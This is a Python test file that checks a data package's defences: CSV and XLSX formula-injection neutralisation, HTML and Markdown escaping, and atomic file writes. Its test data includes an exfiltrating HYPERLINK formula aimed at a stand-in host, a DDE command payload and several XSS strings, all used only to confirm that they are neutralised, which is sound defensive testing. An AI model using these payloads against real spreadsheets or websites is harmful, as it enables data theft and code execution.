"""Hostile input: formulas neutralised in CSV and XLSX, markup escaped, writes atomic."""

from __future__ import annotations

import csv
import html
import io
import os
from html.parser import HTMLParser

import mistune
import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cscanalysis.core import safe_files
from cscanalysis.core.errors import DataError, ParameterError
from cscanalysis.core.safe_files import (
    FORMULA_TRIGGERS,
    atomic_write_bytes,
    atomic_write_text,
    escape,
    is_formula_like,
    neutralise,
    neutralise_formulas,
    safe_markdown_text,
    write_csv,
    write_xlsx,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    " =1+1",
    "＝1+1",
]
HARMLESS_TEXT = ["Bristol, City of", "-813", "+1.5", "-1,234", "-2.5%", "1e-3", "-", "c", ".."]


def hostile_frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "council_name": HOSTILE,
            "net_position": [-813.0, 1815.0, -0.5, 0.0, np.nan, -6930.0, 1.0, 2.0, 3.0],
            "count": list(range(-4, n - 4)),
            "label": pd.array(HARMLESS_TEXT, dtype="string"),
        }
    )


def test_neutralise_formulas_prefixes_hostile_text_only():
    out = neutralise_formulas(hostile_frame())
    assert out["council_name"].tolist() == ["'" + text for text in HOSTILE]
    assert out["label"].tolist() == HARMLESS_TEXT  # plain numbers, "-" and words untouched
    assert out["label"].dtype == hostile_frame()["label"].dtype
    pd.testing.assert_series_equal(out["net_position"], hostile_frame()["net_position"])
    pd.testing.assert_series_equal(out["count"], hostile_frame()["count"])


def test_column_labels_are_neutralised_too():
    out = neutralise_formulas(pd.DataFrame({"=1+1": [1], "count": [2]}))
    assert list(out.columns) == ["'=1+1", "count"]


@given(st.text(max_size=30))
def test_neutralised_text_never_starts_a_formula(text):
    result = neutralise(text)
    assert result in (text, "'" + text)
    if result == text:
        assert not is_formula_like(text)
        if text.startswith(FORMULA_TRIGGERS):
            # only a plain number or a lone "-" may keep a leading sign
            assert text == "-" or text.strip().lstrip("+-")[:1].isdigit() or text[1:2] == "."
    else:
        assert is_formula_like(text)


@given(st.integers() | st.floats(allow_nan=False))
def test_numbers_are_never_changed(number):
    assert neutralise(number) is number
    assert neutralise(str(number)) == str(number) or "inf" in str(number)


def test_csv_neutralises_formulas_and_keeps_negative_numbers(tmp_path):
    path = write_csv(hostile_frame(), tmp_path / "chart.csv")
    text = path.read_bytes().decode("utf-8")
    assert text.startswith("council_name,net_position,count,label\r\n")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE)  # the CR inside "\r=1" is quoted, not a row break
    assert [row["council_name"] for row in rows] == ["'" + t for t in HOSTILE]
    assert [row["net_position"] for row in rows][:3] == ["-813.0", "1815.0", "-0.5"]
    assert rows[4]["net_position"] == ""  # missing is an empty cell, not "nan"
    assert [row["count"] for row in rows][:4] == ["-4", "-3", "-2", "-1"]
    assert [row["label"] for row in rows] == HARMLESS_TEXT
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")) or value == "+1.5"


def test_csv_can_carry_a_byte_order_mark_for_excel(tmp_path):
    path = write_csv(pd.DataFrame({"cost": ["£1,815"]}), tmp_path / "a.csv", encoding="utf-8-sig")
    assert path.read_bytes() == '\ufeffcost\r\n"£1,815"\r\n'.encode()


def test_xlsx_stores_hostile_text_as_text_with_an_apostrophe(tmp_path):
    path = write_xlsx(hostile_frame(), tmp_path / "chart.xlsx", sheet="Chart 1 data")
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["Chart 1 data"]
    header = [cell.value for cell in sheet[1]]
    assert header == ["council_name", "net_position", "count", "label"]
    for i, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=i, column=1)
        assert cell.value == "'" + text.replace("\r", "\n")  # XML turns CR into LF
        assert cell.data_type == "s"  # a string, not a formula ("f")
    negative = sheet.cell(row=2, column=2)
    assert negative.value == -813 and negative.data_type == "n"
    assert sheet.cell(row=6, column=2).value is None  # NaN -> empty cell
    assert sheet.cell(row=2, column=3).value == -4
    assert [sheet.cell(row=i, column=4).value for i in range(2, 11)] == HARMLESS_TEXT
    # No cell anywhere in the workbook is a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_control_character_is_an_error_naming_the_cell(tmp_path):
    frame = pd.DataFrame({"name": ["Bristol", "Bad\x07name"], "n": [1, 2]})
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"previous good file")
    with pytest.raises(DataError) as info:
        write_xlsx(frame, target)
    assert info.value.row == 3 and info.value.column == "name"
    assert info.value.value == "Bad\x07name" and info.value.file == str(target)
    assert target.read_bytes() == b"previous good file"
    assert os.listdir(tmp_path) == ["out.xlsx"]


@pytest.mark.parametrize("sheet", ["", "a" * 32, "data/2023", "[x]", "a:b"])
def test_xlsx_bad_sheet_names_are_parameter_errors(tmp_path, sheet):
    with pytest.raises(ParameterError):
        write_xlsx(pd.DataFrame({"a": [1]}), tmp_path / "x.xlsx", sheet=sheet)


def test_failed_write_leaves_the_old_file_and_no_temporary_file(tmp_path, monkeypatch):
    target = tmp_path / "index.html"
    atomic_write_text(target, "good")

    def broken_replace(src, dst):
        raise OSError("disk full")

    monkeypatch.setattr(safe_files.os, "replace", broken_replace)
    with pytest.raises(OSError, match="disk full"):
        atomic_write_text(target, "half")
    assert target.read_text() == "good"
    assert os.listdir(tmp_path) == ["index.html"]


def test_atomic_write_replaces_content_and_keeps_the_file_mode(tmp_path):
    target = tmp_path / "data.bin"
    atomic_write_bytes(target, b"one")
    target.chmod(0o640)
    atomic_write_bytes(target, b"two")
    assert target.read_bytes() == b"two"
    assert target.stat().st_mode & 0o777 == 0o640
    atomic_write_text(target, "line\r\n", encoding="utf-8")
    assert target.read_bytes() == b"line\r\n"  # no newline translation


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += attrs

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize(
    "name",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        "Bristol' onmouseover='alert(1)",
        "Brighton & Hove",
    ],
)
def test_council_names_escape_to_text_in_html(name):
    page = f'<p title="{escape(name)}">{escape(name)}</p>'
    parser = _Collector()
    parser.feed(page)
    assert parser.tags == ["p"]  # no element from the data
    assert parser.attrs == [("title", name)]  # the attribute holds the name, nothing else
    assert parser.text == name
    assert "<" not in escape(name) and '"' not in escape(name) and "'" not in escape(name)


def test_escape_of_none_is_empty():
    assert escape(None) == ""
    assert escape(42) == "42"


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "**Bristol** [click](javascript:alert(1))",
        "# Heading\n- list item\n\n<b>bold</b>",
        "`code` _em_ $x^2$ | table |",
        "Brighton & Hove",
    ],
)
def test_safe_markdown_text_renders_as_plain_text(text):
    rendered = mistune.html(safe_markdown_text(text))
    parser = _Collector()
    parser.feed(rendered)
    assert parser.tags == ["p"]  # no script, img, a, strong, h1, li, code from the data
    assert parser.text.strip() == " ".join(text.split("\n")).replace("  ", " ").strip()
    assert "\n" not in safe_markdown_text(text)


def test_html_escape_matches_the_standard_library():
    text = "<a href='x'>\"&"
    assert escape(text) == html.escape(text, quote=True)
